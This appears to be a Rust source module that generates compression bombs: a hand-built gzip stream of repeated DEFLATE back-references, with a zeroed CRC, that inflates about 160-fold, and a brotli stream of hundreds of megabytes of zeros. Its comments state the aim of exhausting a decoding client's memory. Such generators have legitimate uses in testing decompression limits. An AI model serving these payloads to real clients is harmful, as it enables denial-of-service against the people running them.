//! Compression bombs: a few hundred kilobytes that inflate to many megabytes of zeros.

/// Writes bits least significant first, as DEFLATE packs them.
struct Bits {
    out: Vec<u8>,
    acc: u32,
    n: u32,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        self.acc |= value << self.n;
        self.n += count;
        while self.n >= 8 {
            self.out.push(self.acc as u8);
            self.acc >>= 8;
            self.n -= 8;
        }
    }

    /// A Huffman code, most significant bit first.
    fn code(&mut self, code: u32, len: u32) {
        let reversed = code.reverse_bits() >> (32 - len);
        self.put(reversed, len);
    }
}

/// A gzip member of one fixed-Huffman DEFLATE block: a literal zero, then `matches` copies of
/// 258 bytes at distance 1. 13 bits become 258 bytes: 512 KiB inflate to about 83 MB. The
/// trailer's CRC is left zero: a client that inflates has run out of memory long before it
/// could check it.
pub fn gzip(compressed_len: usize) -> Vec<u8> {
    let matches = compressed_len * 8 / 13;
    let mut bits = Bits {
        out: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff],
        acc: 0,
        n: 0,
    };
    bits.put(1, 1); // BFINAL
    bits.put(1, 2); // BTYPE = fixed Huffman
    bits.code(0x30, 8); // literal 0
    for _ in 0..matches {
        bits.code(0b1100_0101, 8); // length code 285: 258 bytes
        bits.code(0, 5); // distance code 0: distance 1
    }
    bits.code(0, 7); // end of block
    if bits.n > 0 {
        bits.out.push(bits.acc as u8);
    }
    let inflated = (1 + matches * 258) as u32;
    bits.out.extend_from_slice(&0u32.to_le_bytes());
    bits.out.extend_from_slice(&inflated.to_le_bytes());
    bits.out
}

/// A real brotli stream (RFC 7932) of `inflated` zero bytes: the encoder turns 256 MB of zeros
/// into a few kilobytes. A client that decoded it would hold all of them.
pub fn brotli(inflated: usize) -> Vec<u8> {
    use std::io::Write;
    let mut out = Vec::new();
    {
        let mut w = brotli::CompressorWriter::new(&mut out, 1 << 16, 5, 24);
        let chunk = vec![0u8; 1 << 20];
        for _ in 0..inflated / chunk.len() {
            w.write_all(&chunk).expect("the encoder writes to memory");
        }
    }
    out
}
